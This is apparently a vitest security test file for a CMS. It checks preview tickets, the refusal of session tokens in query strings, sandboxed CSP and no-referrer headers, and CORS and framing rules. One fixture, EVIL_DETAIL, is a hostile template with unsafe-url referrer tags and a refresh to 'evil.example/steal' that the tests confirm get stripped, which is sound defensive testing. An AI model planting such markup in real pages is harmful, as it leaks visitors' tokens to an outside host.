import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, type MockInstance, vi } from 'vitest';
import { siteId } from '../src/db/seed/ids.js';
import { FastLane } from '../src/modules/public/fast-lane.js';
import { API, call, createTestApp, login, type TestApp } from './helpers.js';
import { multipart } from './multipart.js';

const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]);

/**
 * An editor's detail template that tries to hand whoever opens the page to an outside host: a referrer meta (in the
 * head, in the body, in noscript, attributes in any order and case), a refresh, and a per-element referrer policy.
 */
const EVIL_DETAIL = `{% layout 'layout' %}{% block content %}<meta name="referrer" content="unsafe-url">
<META HTTP-EQUIV="Refresh" CONTENT="0;url=https://evil.example/steal"><meta content=unsafe-url name=Referrer>
<noscript><meta name="referrer" content="unsafe-url"></noscript>
<img src="/logo.svg" referrerpolicy="unsafe-url" alt="logo"><a href="https://evil.example/" ReferrerPolicy=unsafe-url>x</a>
<h1>{{ item.title }}</h1>{% endblock %}`;

/** Issue 21: no session token in any URL; previews by one-time ticket; headers pages cannot weaken. */
describe('no session token in a URL', () => {
  let t: TestApp;
  let admin: string;
  let editor: string;
  let draftId: string;
  let otherDraftId: string;
  let liveId: string;
  let base: string;
  let answer: MockInstance<FastLane['answer']>;
  const get = (url: string, headers: Record<string, string> = {}) => t.app.inject({ method: 'GET', url, headers });
  const ticketFor = async (id: string, token = admin) => {
    const res = await call(t, 'POST', `${API}/cms/ad/previewTicket`, { token, body: { id } });
    expect(res.body.success, JSON.stringify(res.body)).toBe(true);
    const setCookie = String(res.headers['set-cookie']);
    return { url: `${API}${res.body.result.url as string}`, cookie: setCookie.split(';')[0], setCookie };
  };

  beforeAll(async () => {
    answer = vi.spyOn(FastLane.prototype, 'answer');
    const web = mkdtempSync(join(tmpdir(), 'yunzhan-web-'));
    mkdirSync(join(web, 'assets'));
    writeFileSync(join(web, 'index.html'), '<!doctype html><title>云站</title><div id="root"></div>');
    t = await createTestApp(
      { WEB_DIR: web },
      {
        templates: async (id): Promise<Record<string, string>> =>
          id === siteId('cn') ? { 'ad-detail': EVIL_DETAIL } : {},
      },
    );
    base = await t.app.listen({ port: 0, host: '127.0.0.1' });
    admin = await login(t, 'admin');
    editor = await login(t, 'editor');
    const add = async (title: string) =>
      (await call(t, 'POST', `${API}/cms/ad/add`, { token: admin, body: { title, position: 'home_banner' } })).body
        .result as string;
    draftId = await add('草稿横幅');
    otherDraftId = await add('另一草稿');
    liveId = await add('上线横幅');
    await call(t, 'PUT', `${API}/cms/ad/publish`, { token: admin, body: { ids: liveId } });
  });
  afterAll(async () => {
    await t.close();
    answer.mockRestore();
  });

  it('refuses a session token in the query of a route that does not take one', async () => {
    expect((await call(t, 'GET', `/sys/user/list?token=${admin}`)).status).toBe(401);
    expect((await call(t, 'GET', '/sys/user/list', { token: admin })).status).toBe(200);
    expect((await get(`${API}/cms/ad/preview?id=${draftId}&token=${admin}`)).statusCode).toBe(401);
    // A session-only file: the header, the file cookie or a signed address, never `?token=`.
    const m = multipart({ name: 'photo.png', data: PNG }, { biz: 'avatar' });
    const up = await t.app.inject({
      method: 'POST',
      url: `${API}/sys/common/upload`,
      payload: m.payload,
      headers: { ...m.headers, 'x-access-token': admin },
    });
    const key = up.json().message as string;
    expect((await get(`${API}/sys/common/static/${key}?token=${admin}`)).statusCode).toBe(401);
    expect((await get(`${API}/sys/common/static/${key}`, { 'x-access-token': admin })).statusCode).toBe(200);
  });

  it('opens a preview once with a short-lived ticket bound to the row and the user', async () => {
    const first = await ticketFor(draftId);
    expect(first.url).toMatch(/\/cms\/ad\/preview\?id=[^&]+&ticket=[\w-]{32,}$/);
    expect(first.url).not.toContain(admin);
    expect(first.setCookie).toMatch(/; Path=\/system-api\/cms\/ad\/preview; Max-Age=\d+; HttpOnly; SameSite=Strict$/);
    const page = await get(first.url, { cookie: first.cookie });
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('<h1>草稿横幅</h1>');
    expect(page.headers['cache-control']).toBe('no-store');
    // One time only.
    expect((await get(first.url, { cookie: first.cookie })).statusCode).toBe(401);

    // Another row than the ticket's: refused, and the ticket is spent.
    const forRow = await ticketFor(draftId);
    expect((await get(forRow.url.replace(draftId, otherDraftId), { cookie: forRow.cookie })).statusCode).toBe(401);
    expect((await get(forRow.url, { cookie: forRow.cookie })).statusCode).toBe(401);

    // Another user (another browser): their own binding cookie does not open the admin's ticket; no cookie neither.
    const editorOwn = await ticketFor(draftId, editor);
    const adminTicket = await ticketFor(draftId);
    expect((await get(adminTicket.url, { cookie: editorOwn.cookie })).statusCode).toBe(401);
    const bare = await ticketFor(draftId);
    expect((await get(bare.url)).statusCode).toBe(401);
    // The editor's ticket in the editor's browser works (the editor may list ads of the site).
    expect((await get(editorOwn.url, { cookie: editorOwn.cookie })).statusCode).toBe(200);

    // Expired after two minutes.
    const late = await ticketFor(draftId);
    const now = Date.now();
    const clock = vi.spyOn(Date, 'now').mockReturnValue(now + 121_000);
    try {
      expect((await get(late.url, { cookie: late.cookie })).statusCode).toBe(401);
    } finally {
      clock.mockRestore();
    }

    // A ticket dies with its session.
    const session = await login(t, 'admin');
    const orphan = await ticketFor(draftId, session);
    await call(t, 'POST', '/sys/logout', { token: session });
    expect((await get(orphan.url, { cookie: orphan.cookie })).statusCode).toBe(401);
  });

  it('issues tickets only for rows the caller may see, to callers with the list permission', async () => {
    const elsewhere = await login(t, 'admin');
    await call(t, 'POST', '/sys/selectDepart', { token: elsewhere, body: { siteId: siteId('en') } });
    const res = await call(t, 'POST', `${API}/cms/ad/previewTicket`, { token: elsewhere, body: { id: draftId } });
    expect(res.body).toMatchObject({ success: false, message: '未找到对应实体' });
    expect(res.headers['set-cookie']).toBeUndefined();
    expect((await call(t, 'POST', `${API}/cms/ad/previewTicket`, { body: { id: draftId } })).status).toBe(401);
    const auditor = await login(t, 'auditor');
    expect(
      (await call(t, 'POST', `${API}/cms/ad/previewTicket`, { token: auditor, body: { id: draftId } })).status,
    ).toBe(403);
  });

  it('serves a preview sandboxed, without referrer, and strips what would weaken that', async () => {
    const ticket = await ticketFor(draftId);
    const page = await get(ticket.url, { cookie: ticket.cookie });
    expect(page.headers['referrer-policy']).toBe('no-referrer');
    const csp = String(page.headers['content-security-policy']);
    expect(csp).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(csp).not.toMatch(/allow-same-origin|allow-scripts/);
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("base-uri 'none'");
    expect(csp).toContain("form-action 'none'");
    expect(page.body).not.toMatch(/name=["']?referrer/i);
    expect(page.body).not.toMatch(/http-equiv/i);
    expect(page.body).not.toMatch(/referrerpolicy/i);
    expect(page.body).not.toContain('evil.example/steal');
    expect(page.body).toContain('alt="logo"');
    expect(page.body).toContain('<h1>草稿横幅</h1>');
  });

  it('serves the rendered site with no referrer and a sandbox, from the app and from the fast lane alike', async () => {
    const path = `/site/cn/ad/${liveId}`;
    const fromApp = await fetch(`${base}${path}`);
    const before = answer.mock.results.filter((r) => r.value === true).length;
    const fromLane = await fetch(`${base}${path}`);
    expect(answer.mock.results.filter((r) => r.value === true).length).toBe(before + 1);
    const body = await fromLane.text();
    expect(body).toBe(await fromApp.text());
    for (const res of [fromApp, fromLane]) {
      expect(res.status).toBe(200);
      expect(res.headers.get('referrer-policy')).toBe('no-referrer');
      const csp = String(res.headers.get('content-security-policy'));
      expect(csp).toMatch(/(^|;\s*)sandbox allow-/);
      expect(csp).toContain('allow-scripts');
      expect(csp).toContain('allow-forms');
      expect(csp).not.toContain('allow-same-origin');
      expect(csp).toContain("object-src 'none'");
    }
    expect(body).toContain('<h1>上线横幅</h1>');
    expect(body).not.toMatch(/name=["']?referrer/i);
    expect(body).not.toMatch(/referrerpolicy/i);
    // Error pages of the site too.
    const missing = await get('/site/cn/ad/x/y/z', { accept: 'text/html' });
    expect(missing.statusCode).toBe(404);
    expect(missing.headers['referrer-policy']).toBe('no-referrer');
    expect(String(missing.headers['content-security-policy'])).toContain('sandbox');
  });

  it('lets the sandboxed site (an opaque origin) read and post to the public API', async () => {
    const read = await get('/api/public/cn/ad', { origin: 'null' });
    expect(read.statusCode).toBe(200);
    expect(read.headers['access-control-allow-origin']).toBe('*');
    expect(read.headers['access-control-allow-credentials']).toBeUndefined();
    const preflight = await t.app.inject({
      method: 'OPTIONS',
      url: '/api/public/cn/intake/repair',
      headers: {
        origin: 'null',
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'content-type',
      },
    });
    expect(preflight.statusCode).toBe(204);
    expect(preflight.headers['access-control-allow-origin']).toBe('*');
    expect(String(preflight.headers['access-control-allow-methods'])).toContain('POST');
    expect(String(preflight.headers['access-control-allow-headers']).toLowerCase()).toContain('content-type');
    expect(String(preflight.headers['access-control-allow-headers']).toLowerCase()).not.toContain('x-access-token');
  });

  it('keeps the back office out of frames; the API may still be framed by it', async () => {
    for (const url of ['/', '/user/login', '/cms/site/ad']) {
      const res = await get(url, { accept: 'text/html' });
      expect(res.statusCode, url).toBe(200);
      expect(String(res.headers['content-security-policy']), url).toContain("frame-ancestors 'none'");
    }
    const api = await call(t, 'GET', '/sys/randomImage/h1');
    expect(String(api.headers['content-security-policy'])).toContain("frame-ancestors 'self'");
  });

  it('names every route that takes a ticket in its URL in the security document', () => {
    const doc = readFileSync(join(import.meta.dirname, '../../../docs/security/tokens-in-urls.md'), 'utf8');
    const ticketed = t.routes.filter((r) => r.urlTicket);
    expect(ticketed.length).toBeGreaterThan(0);
    for (const r of ticketed) {
      expect(['GET', 'HEAD']).toContain(r.method);
      expect(doc, r.url).toContain(`\`${r.url.slice(API.length)}\``);
    }
  });

  // Last: closing the second process removes the data folder both use.
  it('opens a ticket issued by one server process in another sharing the database, once', async () => {
    const { dataDir, databaseUrl } = t.ctx.config;
    const other = await createTestApp({ DATA_DIR: dataDir, ...(databaseUrl ? { DATABASE_URL: databaseUrl } : {}) });
    try {
      const ticket = await ticketFor(draftId);
      const there = await other.app.inject({ url: ticket.url, headers: { cookie: ticket.cookie } });
      expect(there.statusCode).toBe(200);
      expect(there.body).toContain('<h1>草稿横幅</h1>');
      expect((await get(ticket.url, { cookie: ticket.cookie })).statusCode).toBe(401);
    } finally {
      await other.close();
    }
  });
});
